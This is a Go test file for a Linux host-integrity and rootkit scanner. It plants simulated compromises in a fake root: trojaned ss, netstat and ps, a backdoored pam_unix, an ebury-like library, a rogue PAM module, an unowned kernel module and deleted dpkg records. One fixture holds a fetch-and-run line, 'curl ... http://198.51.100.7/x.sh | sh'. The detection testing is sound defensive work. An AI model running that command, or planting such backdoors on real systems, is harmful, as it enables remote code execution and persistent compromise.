package check

import (
	"crypto/md5"
	"encoding/hex"
	"os"
	"testing"

	"github.com/yingji/yingji/internal/finding"
)

func TestIntegrity(t *testing.T) {
	p := rkPattern
	rkFiles(t, []scenario{
		// integrity.modified_binary
		{name: "trojaned ss and netstat", pattern: p, plant: func(r *testRoot) {
			r.writeMode("/usr/bin/ss", fakeELF("ss-trojan"), 0o755)
			r.writeMode("/usr/bin/netstat", fakeELF("netstat")+"\x00hide:4444", 0o755)
		}, want: []want{{"integrity.modified_binary", "/usr/bin/ss"}, {"integrity.modified_binary", "/usr/bin/netstat"}}},
		{name: "modified sbin program reached through the /sbin link", pattern: p, plant: func(r *testRoot) {
			r.writeMode("/sbin/useradd", fakeELF("useradd2"), 0o755)
		}, want: []want{{"integrity.modified_binary", "/usr/sbin/useradd"}}},
		{name: "benign: dpkg diversion with both packages listing the path", pattern: p, plant: func(r *testRoot) {
			x, y := fakeELF("pg_config-real"), "#!/bin/sh\nexec /usr/lib/postgresql/15/bin/pg_config \"$@\"\n"
			r.writeMode("/usr/bin/pg_config", y, 0o755)
			r.writeMode("/usr/bin/pg_config.libpq-dev", x, 0o755)
			r.own("postgresql-common", "/usr/bin/pg_config")
			r.write("/var/lib/dpkg/info/libpq-dev.list", "/usr\n/usr/bin\n/usr/bin/pg_config\n")
			sx, sy := md5.Sum([]byte(x)), md5.Sum([]byte(y))
			r.write("/var/lib/dpkg/info/libpq-dev.md5sums", hex.EncodeToString(sx[:])+"  usr/bin/pg_config\n")
			r.write("/var/lib/dpkg/info/postgresql-common.md5sums", hex.EncodeToString(sy[:])+"  usr/bin/pg_config\n")
			r.appendTo("/var/lib/dpkg/status", "Package: libpq-dev\nStatus: install ok installed\nVersion: 15\nArchitecture: amd64\n\n")
			r.write("/var/lib/dpkg/diversions", "/usr/bin/pg_config\n/usr/bin/pg_config.libpq-dev\npostgresql-common\n")
		}},
		// integrity.modified_library
		{name: "backdoored pam_unix and libc", pattern: p, plant: func(r *testRoot) {
			r.write("/usr/lib/x86_64-linux-gnu/security/pam_unix.so", fakeELF("pam_unix")+"\x00/tmp/.pw.log\x00")
			r.write("/lib/x86_64-linux-gnu/libc.so.6", fakeELF("libc-hooked"))
		}, want: []want{{"integrity.modified_library", "/usr/lib/x86_64-linux-gnu/security/pam_unix.so"}, {"integrity.modified_library", "/usr/lib/x86_64-linux-gnu/libc.so.6"}}},
		{name: "modified systemd", pattern: p, plant: func(r *testRoot) {
			r.writeMode("/lib/systemd/systemd", fakeELF("systemd2"), 0o755)
		}, want: []want{{"integrity.modified_library", "/usr/lib/systemd/systemd"}}},
		// integrity.unowned_binary
		{name: "dropped program with a kernel thread name", pattern: p, plant: func(r *testRoot) {
			r.writeMode("/usr/bin/kworkerds", fakeELF("miner"), 0o755)
		}, want: []want{{"integrity.unowned_binary", "/usr/bin/kworkerds"}}},
		{name: "unowned script that downloads and runs", pattern: p, plant: func(r *testRoot) {
			r.writeMode("/usr/sbin/update-notifier", "#!/bin/sh\n( curl -fsSL http://198.51.100.7/x.sh || wget -q -O- http://198.51.100.7/x.sh ) | sh\n", 0o755)
		}, want: []want{{"integrity.unowned_binary", "/usr/sbin/update-notifier"}}},
		{name: "benign: inert unowned script", pattern: p, plant: func(r *testRoot) {
			r.writeMode("/usr/sbin/policy-rc.d", "#!/bin/sh\nexit 101\n", 0o755)
		}},
		// integrity.unowned_library
		{name: "ebury-like libkeyutils", pattern: p, plant: func(r *testRoot) {
			r.write("/usr/lib/x86_64-linux-gnu/libkeyutils.so.1.9", rkELF("keyctl", "fopen"))
		}, want: []want{{"integrity.unowned_library", "/usr/lib/x86_64-linux-gnu/libkeyutils.so.1.9"}}},
		{name: "benign: local library under /usr/local", pattern: p, plant: func(r *testRoot) {
			r.write("/usr/local/lib/libmylocal.so.1", rkELF("mylocal_init"))
			r.write("/usr/lib/x86_64-linux-gnu/gdk-pixbuf-2.0/2.10.0/loaders.cache", "# generated\n")
		}},
		// integrity.unowned_pam_module
		{name: "unknown pam module used by common-auth", pattern: p, plant: func(r *testRoot) {
			r.write("/usr/lib/x86_64-linux-gnu/security/pam_auth_ext.so", fakeELF("pam"))
			r.appendTo("/etc/pam.d/common-auth", "auth sufficient pam_auth_ext.so\n")
		}, want: []want{{"integrity.unowned_pam_module", "/usr/lib/x86_64-linux-gnu/security/pam_auth_ext.so"}, {"integrity.unowned_pam_module", "/etc/pam.d/common-auth"}}},
		// integrity.unowned_kernel_module
		{name: "module slipped into the kernel tree", pattern: p, plant: func(r *testRoot) {
			for _, m := range []string{"fs/ext4/ext4.ko", "fs/fat/fat.ko", "drivers/net/e1000.ko"} {
				r.write("/lib/modules/6.1.0-18-amd64/kernel/"+m, fakeELF(m))
				r.own("linux-image-6.1.0-18-amd64", "/lib/modules/6.1.0-18-amd64/kernel/"+m)
			}
			r.write("/lib/modules/6.1.0-18-amd64/kernel/drivers/char/nvram_x.ko.xz", "xz")
		}, want: []want{{"integrity.unowned_kernel_module", "/usr/lib/modules/6.1.0-18-amd64/kernel/drivers/char/nvram_x.ko.xz"}}},
		{name: "benign: locally built kernel", pattern: p, plant: func(r *testRoot) {
			r.write("/lib/modules/6.9.0-custom/kernel/fs/ext4/ext4.ko", fakeELF("ext4"))
			r.write("/lib/modules/6.9.0-custom/kernel/fs/fat/fat.ko", fakeELF("fat"))
		}},
		// integrity.pkgdb_missing
		{name: "dpkg status deleted", pattern: p, plant: func(r *testRoot) {
			os.Remove(r.path("/var/lib/dpkg/status"))
		}, want: []want{{"integrity.pkgdb_missing", "/var/lib/dpkg/status"}}},
		{name: "dpkg info lists deleted", pattern: p, plant: func(r *testRoot) {
			os.RemoveAll(r.path("/var/lib/dpkg/info"))
		}, want: []want{{"integrity.pkgdb_missing", "/var/lib/dpkg/info"}}},
		// integrity.md5sums_missing
		{name: "many md5sums removed", pattern: p, plant: func(r *testRoot) {
			for _, pkg := range []string{"coreutils", "procps", "iproute2", "net-tools", "dash", "passwd", "mount", "sudo", "libc6", "libpam-modules", "openssh-server", "cron"} {
				os.Remove(r.path("/var/lib/dpkg/info/" + pkg + ".md5sums"))
			}
		}, want: []want{{"integrity.md5sums_missing", "/var/lib/dpkg/info"}}},
		// integrity.rpm_unverified
		{name: "rpm target", pattern: p, plant: func(r *testRoot) {
			os.RemoveAll(r.path("/var/lib/dpkg"))
			os.Remove(r.path("/usr/bin/dpkg"))
			r.write("/var/lib/rpm/rpmdb.sqlite", "SQLite format 3\x00")
		}, want: []want{{"integrity.rpm_unverified", "/var/lib/rpm"}}},
	})
}

func TestIntegritySeverities(t *testing.T) {
	r := newRoot(t)
	r.writeMode("/usr/bin/ps", fakeELF("evil"), 0o755)      // commonly trojaned
	r.writeMode("/usr/bin/umount", fakeELF("other"), 0o755) // not in the list
	fs := r.scan("integrity.modified_binary")
	var ps, um finding.Severity = -1, -1
	for _, f := range fs {
		for _, e := range f.Evidence {
			switch e.Path {
			case "/usr/bin/ps":
				ps = f.Severity
			case "/usr/bin/umount":
				um = f.Severity
			}
		}
	}
	if ps != finding.Critical || um != finding.High {
		t.Errorf("ps %s (want critical), umount %s (want high)", ps, um)
	}
	// Fewer than ten missing checksum lists stay low; an inert unowned
	// script is low, an unowned program medium or more.
	r = newRoot(t)
	os.Remove(r.path("/var/lib/dpkg/info/dash.md5sums"))
	r.writeMode("/usr/sbin/policy-rc.d", "#!/bin/sh\nexit 101\n", 0o755)
	fs = r.scan("integrity.md5sums_missing,integrity.unowned_binary")
	rkSeverity(t, fs, "integrity.md5sums_missing", finding.Low)
	rkSeverity(t, fs, "integrity.unowned_binary", finding.Low)
}
